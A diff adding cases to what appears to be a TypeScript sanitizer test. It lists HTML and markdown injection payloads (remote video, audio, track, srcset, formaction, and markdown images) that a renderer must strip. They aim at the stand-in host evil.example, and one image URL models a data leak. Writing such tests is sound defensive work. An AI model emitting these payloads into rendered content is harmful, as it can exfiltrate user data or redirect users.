@@ -31,6 +31,15 @@ const ATTACKS: Array<[string, string]> = [
   ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
   ['base tag', '<base href="https://evil.example/">'],
   ['form', '<form action="https://evil.example"><button>go</button></form>'],
+  ['remote video', '<video src="https://evil.example/v.mp4" autoplay></video>'],
+  ['video poster', '<video poster="https://evil.example/p.png"></video>'],
+  ['remote audio', '<audio src="https://evil.example/a.mp3" autoplay></audio>'],
+  ['source inside video', '<video><source src="https://evil.example/v.webm" type="video/webm"></video>'],
+  ['track inside audio', '<audio><track src="https://evil.example/t.vtt"></audio>'],
+  ['picture with srcset', '<picture><source srcset="https://evil.example/x.png"><img src="x"></picture>'],
+  ['formaction on a button', '<button formaction="https://evil.example">x</button>'],
+  ['markdown image with a URL password', '![x](https://user:pass@evil.example/p.gif)'],
+  ['provider error text with an image', 'The server said: ![x](https://evil.example/leak?k=1)'],
 ];
 
 /** What must never appear in the HTML the renderer emits. */
